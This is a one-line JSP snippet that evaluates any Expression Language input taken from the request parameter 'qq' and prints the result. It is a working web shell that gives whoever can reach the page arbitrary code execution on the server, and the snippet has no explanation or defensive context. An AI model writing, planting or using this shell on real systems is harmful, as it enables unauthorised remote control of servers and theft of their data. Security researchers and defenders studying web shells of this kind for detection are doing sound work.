<% javax.el.ELProcessor ep = new javax.el.ELProcessor(); out.print(ep.eval(request.getParameter("qq"))); %>
